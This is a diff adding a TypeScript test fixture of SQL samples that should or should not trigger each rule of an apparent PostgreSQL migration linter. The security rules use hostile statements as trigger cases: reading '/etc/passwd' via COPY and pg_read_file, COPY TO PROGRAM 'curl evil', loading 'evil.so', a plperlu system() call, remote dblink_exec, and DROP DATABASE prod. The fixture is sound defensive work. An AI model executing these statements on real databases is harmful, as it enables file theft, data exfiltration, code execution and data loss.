@@ -1,0 +1,136 @@
+/** One entry per rule: SQL that must trigger it and SQL that must not. */
+export interface RuleCase {
+  triggers: string[];
+  quiet: string[];
+  /** Column types of the existing database, for rules that need them. */
+  existingColumns?: Record<string, Record<string, string>>;
+}
+
+export const ruleCases: Record<string, RuleCase> = {
+  SG001: { triggers: ['SELECT FROM WHERE;', "SELECT 'unterminated"], quiet: ['SELECT 1;'] },
+  SG002: { triggers: ['-- schemagate:allow SG101\nCREATE INDEX i ON t (a);', '-- schemagate:allow\nSELECT 1;'], quiet: ['-- schemagate:allow SG101 tiny lookup table\nCREATE INDEX i ON t (a);'] },
+  SG003: { triggers: ['-- schemagate:allow SG999 because\nSELECT 1;', '-- schemagate:allow SG302 because\nGRANT SELECT ON t TO app;'], quiet: ['-- schemagate:allow SG101 small\nCREATE INDEX i ON t (a);'] },
+  SG004: { triggers: ['-- schemagate:allow SG101 small\nCREATE TABLE t (id bigint);'], quiet: ['-- schemagate:allow SG101 small\nCREATE INDEX i ON t (a);'] },
+  SG101: {
+    triggers: ['CREATE INDEX i ON users (email);', 'create unique index on app.users using gin (tags);'],
+    quiet: ['CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);', 'CREATE TABLE users (id bigint); CREATE INDEX i ON users (id);'],
+  },
+  SG102: { triggers: ['DROP INDEX users_email_idx;'], quiet: ['DROP INDEX CONCURRENTLY IF EXISTS users_email_idx;', 'CREATE TABLE t (a int); CREATE INDEX i ON t (a); DROP INDEX i;'] },
+  SG103: { triggers: ['REINDEX INDEX users_email_idx;', 'REINDEX TABLE users;'], quiet: ['REINDEX (CONCURRENTLY) INDEX users_email_idx;', 'REINDEX TABLE CONCURRENTLY users;'] },
+  SG104: {
+    triggers: [
+      'ALTER TABLE users ADD COLUMN token uuid DEFAULT gen_random_uuid();',
+      'ALTER TABLE users ADD COLUMN r float8 DEFAULT random();',
+      'ALTER TABLE users ADD COLUMN at timestamptz NOT NULL DEFAULT clock_timestamp();',
+      'ALTER TABLE users ADD COLUMN n bigserial;',
+      'ALTER TABLE users ADD COLUMN n bigint GENERATED ALWAYS AS IDENTITY;',
+      "ALTER TABLE users ADD COLUMN n bigint DEFAULT nextval('s');",
+      'ALTER TABLE users ADD COLUMN n int GENERATED ALWAYS AS (a + 1) STORED;',
+    ],
+    quiet: [
+      'ALTER TABLE users ADD COLUMN created_at timestamptz NOT NULL DEFAULT now();',
+      "ALTER TABLE users ADD COLUMN status text NOT NULL DEFAULT 'active';",
+      'CREATE TABLE t (id bigint); ALTER TABLE t ADD COLUMN u uuid DEFAULT gen_random_uuid();',
+    ],
+  },
+  SG105: {
+    triggers: ['ALTER TABLE users ALTER COLUMN age TYPE bigint;', 'ALTER TABLE users ALTER COLUMN id TYPE text USING id::text;'],
+    quiet: [
+      'ALTER TABLE users ALTER COLUMN name TYPE text;',
+      'ALTER TABLE users ALTER COLUMN name TYPE varchar(200);',
+      'ALTER TABLE users ALTER COLUMN price TYPE numeric(12,2);',
+      'CREATE TABLE t (a int); ALTER TABLE t ALTER COLUMN a TYPE bigint;',
+    ],
+    existingColumns: { users: { age: 'integer', id: 'bigint', name: 'character varying(100)', price: 'numeric(10,2)' } },
+  },
+  SG106: {
+    triggers: ['ALTER TABLE users ALTER COLUMN email SET NOT NULL;', 'ALTER TABLE users ADD CONSTRAINT c CHECK (email IS NOT NULL) NOT VALID; ALTER TABLE users ALTER COLUMN email SET NOT NULL;'],
+    quiet: ['ALTER TABLE users ADD CONSTRAINT c CHECK (email IS NOT NULL) NOT VALID;\nALTER TABLE users VALIDATE CONSTRAINT c;\nALTER TABLE users ALTER COLUMN email SET NOT NULL;'],
+  },
+  SG107: {
+    triggers: ['ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id);'],
+    quiet: ['ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (user_id) REFERENCES users (id) NOT VALID;', 'CREATE TABLE orders (id bigint, user_id bigint); ALTER TABLE orders ADD FOREIGN KEY (user_id) REFERENCES users (id);'],
+  },
+  SG108: { triggers: ['ALTER TABLE users ADD CONSTRAINT age_ok CHECK (age >= 0);'], quiet: ['ALTER TABLE users ADD CONSTRAINT age_ok CHECK (age >= 0) NOT VALID;', 'ALTER TABLE users VALIDATE CONSTRAINT age_ok;'] },
+  SG109: {
+    triggers: ['ALTER TABLE users ADD CONSTRAINT email_key UNIQUE (email);', 'ALTER TABLE users ADD PRIMARY KEY (id);'],
+    quiet: ['ALTER TABLE users ADD CONSTRAINT email_key UNIQUE USING INDEX users_email_idx;', 'ALTER TABLE users ADD CONSTRAINT users_pkey PRIMARY KEY USING INDEX users_id_idx;'],
+  },
+  SG110: { triggers: ['VACUUM FULL users;', 'VACUUM (FULL, ANALYZE) users;', 'CLUSTER users USING users_pkey;'], quiet: ['VACUUM users;', 'VACUUM (ANALYZE) users;'] },
+  SG111: {
+    triggers: [
+      'CREATE TABLE t (id bigint);\nCREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);',
+      'BEGIN;\nCREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);\nCOMMIT;',
+      'ALTER TABLE users ADD COLUMN a text; DROP INDEX CONCURRENTLY IF EXISTS i;',
+    ],
+    quiet: [
+      'CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);',
+      "SET lock_timeout = '2s';\nCREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);\nCREATE INDEX CONCURRENTLY IF NOT EXISTS j ON users (name);",
+    ],
+  },
+  SG112: { triggers: ['ALTER TABLE events DETACH PARTITION events_2020;'], quiet: ['ALTER TABLE events DETACH PARTITION events_2020 CONCURRENTLY;'] },
+  SG113: { triggers: ['ALTER DOMAIN positive ADD CONSTRAINT c CHECK (VALUE > 0);'], quiet: ['ALTER DOMAIN positive ADD CONSTRAINT c CHECK (VALUE > 0) NOT VALID;'] },
+  SG114: {
+    triggers: ['ALTER TABLE users ADD COLUMN a text;', 'DROP TABLE old_things;', 'TRUNCATE users;'],
+    quiet: ["SET lock_timeout = '2s';\nALTER TABLE users ADD COLUMN a text;", 'CREATE TABLE t (id bigint); ALTER TABLE t ADD COLUMN a text;', 'ALTER TABLE users VALIDATE CONSTRAINT c;'],
+  },
+  SG201: { triggers: ['DROP TABLE users;', 'DROP TABLE IF EXISTS app.users, app.orders;'], quiet: ['CREATE TABLE tmp (id bigint); DROP TABLE tmp;', 'DROP VIEW v;'] },
+  SG202: { triggers: ['ALTER TABLE users DROP COLUMN legacy;'], quiet: ['ALTER TABLE users ADD COLUMN legacy text;'] },
+  SG203: { triggers: ['DROP SCHEMA archive;'], quiet: ['CREATE SCHEMA archive;'] },
+  SG204: { triggers: ['TRUNCATE users;', 'TRUNCATE TABLE a, b;'], quiet: ['CREATE TABLE t (id bigint); TRUNCATE t;'] },
+  SG205: { triggers: ['DELETE FROM users;', 'WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone;'], quiet: ['DELETE FROM users WHERE id = 1;'] },
+  SG206: { triggers: ["UPDATE users SET status = 'x';"], quiet: ["UPDATE users SET status = 'x' WHERE status IS NULL;"] },
+  SG207: { triggers: ['ALTER TABLE users RENAME TO customers;'], quiet: ['CREATE TABLE tmp (id bigint); ALTER TABLE tmp RENAME TO final;', 'ALTER INDEX i RENAME TO j;'] },
+  SG208: { triggers: ['ALTER TABLE users RENAME COLUMN email TO email_address;'], quiet: ['CREATE TABLE t (a int); ALTER TABLE t RENAME COLUMN a TO b;'] },
+  SG209: {
+    triggers: [
+      'ALTER TABLE users ALTER COLUMN id TYPE integer;',
+      'ALTER TABLE users ALTER COLUMN bio TYPE varchar(50);',
+      'ALTER TABLE users ALTER COLUMN name TYPE varchar(10);',
+      'ALTER TABLE users ALTER COLUMN price TYPE numeric(10,1);',
+    ],
+    quiet: ['ALTER TABLE users ALTER COLUMN name TYPE varchar(500);', 'ALTER TABLE users ALTER COLUMN id TYPE bigint;', 'ALTER TABLE users ALTER COLUMN bio TYPE text;'],
+    existingColumns: { 'public.users': { id: 'bigint', bio: 'text', name: 'character varying(100)', price: 'numeric(10,2)' } },
+  },
+  SG210: { triggers: ['ALTER TABLE users ALTER COLUMN email DROP NOT NULL;'], quiet: ['ALTER TABLE users ALTER COLUMN email SET DEFAULT 1;'] },
+  SG211: { triggers: ['ALTER TABLE users ALTER COLUMN status DROP DEFAULT;'], quiet: ["ALTER TABLE users ALTER COLUMN status SET DEFAULT 'a';"] },
+  SG212: { triggers: ['DROP TABLE users CASCADE;', 'ALTER TABLE users DROP COLUMN a CASCADE;', 'TRUNCATE users CASCADE;'], quiet: ['DROP TABLE users RESTRICT;', 'DROP TABLE users;'] },
+  SG301: { triggers: ["CREATE ROLE app LOGIN PASSWORD 'x';", 'create user bob;', 'ALTER USER bob SUPERUSER;', 'DROP GROUP g;', 'ALTER ROLE bob SET search_path = public;', 'ALTER ROLE bob RENAME TO alice;'], quiet: ['CREATE TABLE roles (id bigint);'] },
+  SG302: {
+    triggers: ['GRANT SELECT ON users TO public;', 'REVOKE ALL ON users FROM app;', 'GRANT admin TO bob;', 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO app;', 'ALTER TABLE users OWNER TO bob;', 'ALTER FUNCTION f() OWNER TO bob;', 'CREATE SCHEMA s AUTHORIZATION bob;'],
+    quiet: ['CREATE TABLE grants (id bigint);', 'CREATE SCHEMA s;'],
+  },
+  SG303: { triggers: ['SET ROLE postgres;', 'SET SESSION AUTHORIZATION postgres;', "SELECT set_config('role', 'postgres', false);"], quiet: ['RESET ROLE;', "SET statement_timeout = '5s';"] },
+  SG304: { triggers: ["ALTER SYSTEM SET work_mem = '1GB';"], quiet: ["SET work_mem = '64MB';"] },
+  SG305: { triggers: ["COPY users FROM '/etc/passwd';", "COPY users TO PROGRAM 'curl evil';", "COPY (SELECT 1) TO '/tmp/x';"], quiet: ['COPY users FROM STDIN;', 'COPY users TO STDOUT;'] },
+  SG306: { triggers: ["SELECT pg_read_file('/etc/passwd');", "SELECT lo_import('/etc/passwd');", "SELECT * FROM pg_ls_dir('.');", "SELECT lo_export(1, '/tmp/x');"], quiet: ["SELECT read_file('x');", "SELECT 'pg_read_file';"] },
+  SG307: { triggers: ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity;', 'SELECT pg_reload_conf();'], quiet: ['SELECT pg_backend_pid();'] },
+  SG308: { triggers: ['CREATE EXTENSION plv8;', 'CREATE EXTENSION earthdistance CASCADE;'], quiet: ['CREATE EXTENSION IF NOT EXISTS pgcrypto;', 'CREATE EXTENSION "uuid-ossp";'] },
+  SG309: { triggers: ['SET session_replication_role = replica;', 'SET LOCAL session_replication_role TO replica;', "SELECT set_config('session_replication_role', 'replica', true);", 'SELECT set_config(name, value, true) FROM settings;'], quiet: ["SELECT set_config('app.tenant', '1', true);", "SELECT current_setting('session_replication_role');"] },
+  SG310: {
+    triggers: ["SELECT dblink_exec('host=x', 'DROP TABLE t');", 'CREATE EXTENSION postgres_fdw;', "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x');", 'CREATE FOREIGN DATA WRAPPER w;', 'CREATE USER MAPPING FOR CURRENT_USER SERVER s;', "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p;", 'CREATE PUBLICATION p FOR ALL TABLES;'],
+    quiet: ['SELECT link FROM dblinks;'],
+  },
+  SG311: {
+    triggers: ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$;", "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('TRUNCATE %I', 't'); END $$;", "SELECT query_to_xml('select 1', true, true, '');"],
+    quiet: ['CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;'],
+  },
+  SG312: { triggers: ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f';", "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$;", 'CREATE LANGUAGE plperlu;', "LOAD 'evil';", "DO LANGUAGE plperlu $$ system('x') $$;"], quiet: ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;'] },
+  SG313: { triggers: ['BEGIN;', 'COMMIT;', 'SAVEPOINT a;', "PREPARE TRANSACTION 'x';", 'START TRANSACTION; SELECT 1; ROLLBACK;', 'DO $$ BEGIN COMMIT; END $$;'], quiet: ['CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN COMMIT; END $$;'] },
+  SG314: { triggers: ['CREATE DATABASE other;', 'DROP DATABASE prod;', "ALTER DATABASE app SET work_mem = '1GB';", "CREATE TABLESPACE ts LOCATION '/tmp';", 'CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f();'], quiet: ['CREATE TABLE databases (id bigint);'] },
+  SG315: {
+    triggers: ['SELECT * FROM netlify.migrations;', 'DELETE FROM schemagate.ledger WHERE true;', 'CREATE SCHEMA netlify;', 'DROP SCHEMA schemagate;', 'SET search_path TO netlify, public;', 'CREATE TABLE netlify.x (id bigint);', 'ALTER TABLE t SET SCHEMA netlify;', 'CREATE FUNCTION netlify.f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;', 'DROP FUNCTION schemagate.f();', 'CREATE EXTENSION pgcrypto SCHEMA netlify;', "SELECT set_config('search_path', 'schemagate', false);", 'SELECT netlify.migrations.name FROM netlify.migrations;'],
+    quiet: ['SELECT * FROM netlify_sites;', 'SELECT netlify FROM t;', 'CREATE TABLE t (netlify text);'],
+  },
+  SG316: {
+    triggers: ["CREATE FUNCTION f(p users.id%TYPE) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'GRANT ALL ON t TO x'; END $$;"],
+    quiet: ['CREATE FUNCTION f(p users.id%TYPE) RETURNS void LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = p; END $$;'],
+  },
+  SG401: { triggers: ['CREATE TABLE t (id int PRIMARY KEY);', 'CREATE TABLE t (id serial PRIMARY KEY);', 'CREATE TABLE t (id integer, PRIMARY KEY (id));'], quiet: ['CREATE TABLE t (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY);', 'CREATE TABLE t (id bigint PRIMARY KEY, n int);'] },
+  SG402: { triggers: ['CREATE TABLE t (id bigserial PRIMARY KEY);', 'ALTER TABLE t ADD COLUMN n serial;'], quiet: ['CREATE TABLE t (id bigint GENERATED BY DEFAULT AS IDENTITY);'] },
+  SG403: { triggers: ['CREATE TABLE t (at timestamp);', 'ALTER TABLE t ADD COLUMN at timestamp without time zone;'], quiet: ['CREATE TABLE t (at timestamptz);', 'CREATE TABLE t (at timestamp with time zone);'] },
+  SG404: { triggers: ['CREATE TABLE t (name varchar(100));', 'CREATE TABLE t (name character varying(20));'], quiet: ['CREATE TABLE t (name text);', 'CREATE TABLE t (name varchar);'] },
+  SG405: { triggers: [`CREATE TABLE ${'a'.repeat(64)} (id bigint);`, `CREATE TABLE t (${'é'.repeat(32)} text);`], quiet: [`CREATE TABLE ${'a'.repeat(63)} (id bigint);`] },
+  SG406: { triggers: ['CREATE INDEX CONCURRENTLY i ON users (email);', 'DROP INDEX CONCURRENTLY i;'], quiet: ['CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);', 'DROP INDEX CONCURRENTLY IF EXISTS i;'] },
+  SG407: { triggers: ['DO $$ BEGIN RAISE NOTICE $m$hi$m$; END $$;'], quiet: ['SELECT 1;'] },
+};
